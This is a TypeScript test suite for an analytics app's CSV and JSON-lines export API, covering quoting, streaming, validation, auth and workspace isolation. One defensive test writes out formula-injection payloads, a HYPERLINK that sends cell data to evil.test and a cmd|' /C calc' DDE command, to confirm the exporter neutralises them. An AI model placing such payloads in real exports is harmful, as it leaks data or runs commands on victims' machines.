// GET /api/v1/export/events|users|metrics over HTTP: both formats, CSV quoting, streaming at size, isolation.
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { basic, startTestServer, type TestServer } from '../helpers/server.js'

const EVENT_COLUMNS = 'message_id,type,kind,name,user,timestamp,received_at,amount,currency,raw'
const USER_COLUMNS =
  'external_id,status,email,name,first_seen,last_seen,signed_up_at,canceled_at,payments,refunds,net,currency,previous_ids,anonymous_ids,attributes'

interface Download {
  status: number
  headers: Headers
  text: string
}

async function download(server: TestServer, path: string, apiKey = server.apiKey): Promise<Download> {
  const res = await fetch(server.url + path, { headers: { authorization: `Bearer ${apiKey}` } })
  return { status: res.status, headers: res.headers, text: await res.text() }
}

const jsonl = (text: string): any[] => {
  expect(text.endsWith('\n') || text === '').toBe(true)
  return text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line))
}
const csv = (text: string): Record<string, string>[] => parse(text, { columns: true })

/** Names and ids that need quoting: commas, quotes, CR/LF, unicode. */
const TRICKY = 'Fête, "déjà vu"\r\nline 2 ☃ 東京'

describe('exports of a small workspace', () => {
  let server: TestServer
  const at = (minute: number) => new Date(Date.UTC(2024, 2, 1, 9, minute)).toISOString()
  const batch = [
    {
      type: 'page',
      anonymousId: 'anon-1',
      messageId: 'm01',
      timestamp: at(1),
      properties: { title: 'Home' },
    },
    {
      type: 'identify',
      userId: 'u,1',
      anonymousId: 'anon-1',
      messageId: 'm02',
      timestamp: at(2),
      traits: { name: TRICKY, email: 'a"b@example.com', plan: 'pro' },
    },
    {
      type: 'track',
      userId: 'u,1',
      event: TRICKY,
      messageId: 'm03',
      timestamp: at(3),
      properties: { note: 'a,b\n"c"' },
    },
    {
      type: 'track',
      userId: 'u,1',
      event: 'Payment Made',
      messageId: 'm04',
      timestamp: at(4),
      properties: { amount: '1,299.50' },
    },
    {
      type: 'track',
      userId: 'u,1',
      event: 'Refund Received',
      messageId: 'm05',
      timestamp: at(5),
      properties: { amount: 99.5 },
    },
    {
      type: 'track',
      userId: 'u,1',
      event: 'Payment Made',
      messageId: 'm06',
      timestamp: at(5),
      properties: { amount: 7, currency: 'EUR' },
    },
    { type: 'alias', previousId: 'u,1', userId: 'ü"2', messageId: 'm07', timestamp: at(6) },
    { type: 'track', userId: 'plain', event: 'signup', messageId: 'm08', timestamp: at(7) },
    { type: 'track', userId: 'plain', event: 'cancel', messageId: 'm09', timestamp: at(8) },
    // Same event time: ordered by messageId.
    { type: 'screen', anonymousId: 'anon-2', name: 'Main', messageId: 'm11', timestamp: at(9) },
    { type: 'screen', anonymousId: 'anon-2', name: 'Main', messageId: 'm10', timestamp: at(9) },
  ]
  const order = ['m01', 'm02', 'm03', 'm04', 'm05', 'm06', 'm07', 'm08', 'm09', 'm10', 'm11']

  beforeAll(async () => {
    server = await startTestServer()
    const res = await server.post('/v1/batch', { batch }, basic(server.token))
    expect(res.body).toMatchObject({ accepted: batch.length, rejected: [] })
  })
  afterAll(() => server.close())

  it('exports events as JSON lines in event-time order, in the read API shape plus the user', async () => {
    const res = await download(server, '/api/v1/export/events')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="tractionboard-events.jsonl"')
    const events = jsonl(res.text)
    expect(events.map((e) => e.message_id)).toEqual(order)
    expect(events.map((e) => e.user)).toEqual([
      'ü"2',
      'ü"2',
      'ü"2',
      'ü"2',
      'ü"2',
      'ü"2',
      'ü"2',
      'plain',
      'plain',
      null,
      null,
    ])
    // The same objects as the user's timeline (newest first there).
    const timeline = (await server.get(`/api/v1/users/${encodeURIComponent('ü"2')}/events?limit=100`)).body
      .events
    const mine = events.filter((e) => e.user === 'ü"2').map(({ user: _user, ...rest }) => rest)
    expect(mine).toEqual([...timeline].reverse())
    expect(events[2]).toMatchObject({ name: TRICKY, kind: 'custom', raw: { event: TRICKY } })
    expect(events[3]).toMatchObject({ kind: 'payment', amount: 1299.5, currency: 'USD' })
  })

  it('exports events as CSV with a header row and every awkward value quoted', async () => {
    const res = await download(server, '/api/v1/export/events?format=csv')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="tractionboard-events.csv"')
    expect(res.text.split('\r\n')[0]).toBe(EVENT_COLUMNS)
    const rows = csv(res.text)
    const lines = jsonl((await download(server, '/api/v1/export/events')).text)
    expect(rows).toHaveLength(lines.length)
    rows.forEach((row, i) => {
      const e = lines[i]
      expect(row).toEqual({
        message_id: e.message_id,
        type: e.type,
        kind: e.kind,
        name: e.name ?? '',
        user: e.user ?? '',
        timestamp: e.timestamp,
        received_at: e.received_at,
        amount: e.amount === null ? '' : String(e.amount),
        currency: e.currency ?? '',
        raw: expect.any(String),
      })
      expect(JSON.parse(row.raw!)).toEqual(e.raw)
    })
    expect(rows[2]!.name).toBe(TRICKY)
    expect(rows[0]!.user).toBe('ü"2')
    expect(res.text).toContain(`"${TRICKY.replaceAll('"', '""')}"`)
  })

  it('exports users with a userId as JSON lines, exactly as the users API shows them', async () => {
    const res = await download(server, '/api/v1/export/users?format=jsonl')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="tractionboard-users.jsonl"')
    const users = jsonl(res.text)
    expect(users.map((u) => u.external_id)).toEqual(['ü"2', 'plain'])
    for (const user of users) {
      expect(user).toEqual((await server.get(`/api/v1/users/${encodeURIComponent(user.external_id)}`)).body)
    }
  })

  it('exports users as CSV', async () => {
    const res = await download(server, '/api/v1/export/users?format=csv')
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.text.split('\r\n')[0]).toBe(USER_COLUMNS)
    const rows = csv(res.text)
    expect(rows).toHaveLength(2)
    const first = rows[0]!
    expect(first).toEqual({
      external_id: 'ü"2',
      status: 'active',
      email: 'a"b@example.com',
      name: TRICKY,
      first_seen: at(1),
      last_seen: at(6),
      signed_up_at: '',
      canceled_at: '',
      payments: '1299.5',
      refunds: '99.5',
      net: '1200',
      currency: 'USD',
      previous_ids: expect.any(String),
      anonymous_ids: expect.any(String),
      attributes: expect.any(String),
    })
    expect(JSON.parse(first.previous_ids!)).toEqual(['u,1'])
    expect(JSON.parse(first.anonymous_ids!)).toEqual(['anon-1'])
    expect(JSON.parse(first.attributes!)).toEqual({ name: TRICKY, email: 'a"b@example.com', plan: 'pro' })
    expect(rows[1]).toMatchObject({
      external_id: 'plain',
      status: 'canceled',
      signed_up_at: at(7),
      canceled_at: at(8),
      net: '0',
    })
  })

  it('exports metrics one row per period, the same numbers as GET /api/v1/metrics', async () => {
    const params = 'from=2024-02-26&to=2024-03-10&interval=week'
    const api = (await server.get(`/api/v1/metrics?${params}`)).body
    const lines = await download(server, `/api/v1/export/metrics?${params}`)
    expect(lines.status).toBe(200)
    expect(lines.headers.get('content-disposition')).toBe(
      'attachment; filename="tractionboard-metrics-2024-02-26-2024-03-10-week.jsonl"',
    )
    expect(jsonl(lines.text)).toEqual(api.series)

    const some = 'from=2024-03-01&to=2024-03-03&interval=day&metrics=visits,net_revenue,churn_rate'
    const res = await download(server, `/api/v1/export/metrics?${some}&format=csv`)
    expect(res.text).toBe(
      [
        'period_start,period_end,visits,net_revenue,churn_rate',
        '2024-03-01,2024-03-01,3,1200,',
        // One customer at the start of these days and no cancellation: churn 0 (null, empty, on the 1st).
        '2024-03-02,2024-03-02,0,0,0',
        '2024-03-03,2024-03-03,0,0,0',
        '',
      ].join('\r\n'),
    )
  })

  it.each([
    ['/api/v1/export/events?format=xml', /"format" must be csv or jsonl/],
    ['/api/v1/export/users?format=CSV', /"format"/],
    ['/api/v1/export/metrics?format=json', /"format"/],
    ['/api/v1/export/metrics?from=2024-03-02&to=2024-03-01', /"from"/],
    ['/api/v1/export/metrics?interval=hour', /"interval"/],
    ['/api/v1/export/metrics?metrics=visits,nope', /Unknown metric "nope"/],
  ])('refuses %s with 400 invalid_parameter', async (path, message) => {
    const res = await server.get(path)
    expect(res.status).toBe(400)
    expect(res.body.error).toMatchObject({
      code: 'invalid_parameter',
      message: expect.stringMatching(message),
    })
  })

  it('needs the api_key', async () => {
    for (const what of ['events', 'users', 'metrics']) {
      expect((await server.get(`/api/v1/export/${what}`, {})).status).toBe(401)
      expect(
        (await server.get(`/api/v1/export/${what}`, { authorization: `Bearer ${server.token}` })).status,
      ).toBe(401)
    }
  })

  it("a second workspace's api_key exports only its own events and users", async () => {
    const other = await server.store.workspaces.create({ name: 'Other', timezone: 'UTC', currency: 'EUR' })
    const mine = [
      {
        type: 'track',
        userId: 'plain',
        event: 'Payment Made',
        messageId: 'm01',
        timestamp: at(1),
        properties: { amount: 3 },
      },
      { type: 'page', anonymousId: 'x', messageId: 'o2', timestamp: at(2) },
    ]
    expect((await server.post('/v1/batch', { batch: mine }, basic(other.token))).body).toMatchObject({
      accepted: 2,
    })
    const events = jsonl((await download(server, '/api/v1/export/events', other.apiKey)).text)
    expect(events.map((e) => [e.message_id, e.user])).toEqual([
      ['m01', 'plain'],
      ['o2', null],
    ])
    const users = csv((await download(server, '/api/v1/export/users?format=csv', other.apiKey)).text)
    expect(users.map((u) => [u.external_id, u.status, u.net, u.currency])).toEqual([
      ['plain', 'active', '3', 'EUR'],
    ])
    // The first workspace's exports are unchanged.
    expect(jsonl((await download(server, '/api/v1/export/events')).text).map((e) => e.message_id)).toEqual(
      order,
    )
    expect(jsonl((await download(server, '/api/v1/export/users')).text)).toHaveLength(2)
  })

  it('neutralises formulas in CSV cells, as the dashboard’s CSV buttons do', async () => {
    const hostile = await server.store.workspaces.create({
      name: 'Hostile',
      timezone: 'UTC',
      currency: 'USD',
    })
    const link = '=HYPERLINK("https://evil.test/?"&A1,"Click me")'
    const command = "-2+3+cmd|' /C calc'!A0"
    const message = { type: 'track', userId: link, event: command, messageId: 'f1', timestamp: at(1) }
    expect((await server.post('/v1/track', message, basic(hostile.token))).status).toBe(200)
    const events = await download(server, '/api/v1/export/events?format=csv', hostile.apiKey)
    const row = csv(events.text)[0]!
    expect([row.user, row.name]).toEqual([`'${link}`, `'${command}`])
    expect(events.text).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click me"")"`)
    const users = csv((await download(server, '/api/v1/export/users?format=csv', hostile.apiKey)).text)
    expect(users.map((u) => u.external_id)).toEqual([`'${link}`])
  })

  it('exports an empty workspace as a header only, or nothing', async () => {
    const empty = await server.store.workspaces.create({ name: 'Empty', timezone: 'UTC', currency: 'USD' })
    expect((await download(server, '/api/v1/export/events', empty.apiKey)).text).toBe('')
    expect((await download(server, '/api/v1/export/events?format=csv', empty.apiKey)).text).toBe(
      `${EVENT_COLUMNS}\r\n`,
    )
    expect((await download(server, '/api/v1/export/users?format=csv', empty.apiKey)).text).toBe(
      `${USER_COLUMNS}\r\n`,
    )
  })
})

describe('a large export', () => {
  const EVENTS = 20_000
  const USERS = 3_000
  const T0 = Date.UTC(2024, 0, 1)
  let server: TestServer
  const id = (i: number) => `m${String(i).padStart(6, '0')}`

  beforeAll(async () => {
    server = await startTestServer()
    // Many events share an event time, so the keyset crosses chunk boundaries inside a tie.
    const events = Array.from({ length: EVENTS }, (_, i) => ({
      type: 'track',
      userId: `user-${i % USERS}`,
      event: i % 7 === 0 ? `Clicked "${i}", then\nleft ☃` : 'Viewed',
      messageId: id(EVENTS - 1 - i),
      timestamp: new Date(T0 + Math.floor(i / 3) * 1000).toISOString(),
      properties: { i },
    }))
    for (let start = 0; start < EVENTS; start += 2500) {
      const res = await server.post(
        '/v1/batch',
        { batch: events.slice(start, start + 2500) },
        basic(server.token),
      )
      expect(res.body).toMatchObject({ accepted: Math.min(2500, EVENTS - start), rejected: [] })
    }
  }, 120_000)
  afterAll(() => server.close())

  /** Reads the body as it streams; `during` runs once the first bytes have arrived. */
  async function streamed(path: string, during?: () => Promise<void>) {
    const res = await fetch(server.url + path, { headers: { authorization: `Bearer ${server.apiKey}` } })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-length')).toBeNull()
    expect(res.headers.get('transfer-encoding')).toBe('chunked')
    const reader = res.body!.getReader()
    const decoder = new TextDecoder()
    let text = ''
    let chunks = 0
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      text += decoder.decode(value, { stream: true })
      chunks++
      if (chunks === 1 && during !== undefined) await during()
    }
    return { text: text + decoder.decode(), chunks }
  }

  const late = (messageId: string) => ({
    type: 'track',
    userId: 'late',
    event: 'Late',
    messageId,
    timestamp: '2030-01-01T00:00:00Z',
  })

  it('keeps no query open between chunks: the same connection commits while an export is suspended', async () => {
    const iterator = server.store.exports.events(server.workspaceId)[Symbol.asyncIterator]()
    const first = await iterator.next()
    // i = 0, 1, 2 share the first instant; their messageIds decrease with i.
    expect(first.value).toMatchObject({ messageId: id(EVENTS - 3), userExternalId: 'user-2' })
    // The first chunk has been read; the generator is suspended inside it.
    const res = await server.post('/v1/batch', { batch: [late('zz-late-1')] }, basic(server.token))
    expect(res.body).toMatchObject({ accepted: 1, duplicates: 0 })
    const ids: string[] = [first.value.messageId]
    for (let next = await iterator.next(); next.done !== true; next = await iterator.next()) {
      ids.push(next.value.messageId)
    }
    // The late event sorts after the position the export had reached, so it is included.
    expect(ids).toHaveLength(EVENTS + 1)
    expect(ids.at(-1)).toBe('zz-late-1')
  })

  it('streams 20,000 events as JSON lines, every line complete and in order, while ingestion goes on', async () => {
    let status = 0
    const { text, chunks } = await streamed('/api/v1/export/events', async () => {
      status = (await server.post('/v1/batch', { batch: [late('zz-late-2')] }, basic(server.token))).status
    })
    expect(status).toBe(200)
    expect(chunks).toBeGreaterThan(1)
    const events = jsonl(text)
    // zz-late-2 is included unless the whole body was already buffered when it was committed.
    expect(events.slice(EVENTS).map((e) => e.message_id)).toEqual(
      events.length === EVENTS + 2 ? ['zz-late-1', 'zz-late-2'] : ['zz-late-1'],
    )
    const keys = events.slice(0, EVENTS).map((e) => `${e.timestamp} ${e.message_id}`)
    expect(keys).toEqual([...keys].sort())
    expect(new Set(keys).size).toBe(EVENTS)
    expect(
      events
        .slice(0, EVENTS)
        .every((e) => /^user-\d+$/.test(e.user) && typeof e.raw.properties.i === 'number'),
    ).toBe(true)
  })

  it('streams the same events as CSV', async () => {
    const { text } = await streamed('/api/v1/export/events?format=csv')
    const rows = csv(text)
    expect(rows.length).toBeGreaterThanOrEqual(EVENTS)
    const tricky = rows.filter((r) => r.name!.startsWith('Clicked'))
    expect(tricky).toHaveLength(Math.ceil(EVENTS / 7))
    for (const row of tricky)
      expect(row.name).toBe(`Clicked "${JSON.parse(row.raw!).properties.i}", then\nleft ☃`)
  })

  it('streams every user once, in user order', async () => {
    const { text } = await streamed('/api/v1/export/users')
    const users = jsonl(text)
    const ids = users.map((u) => u.external_id)
    expect(new Set(ids).size).toBe(ids.length)
    expect(ids.filter((u) => u.startsWith('user-'))).toEqual(
      Array.from({ length: USERS }, (_, i) => `user-${i}`),
    )
  })
})
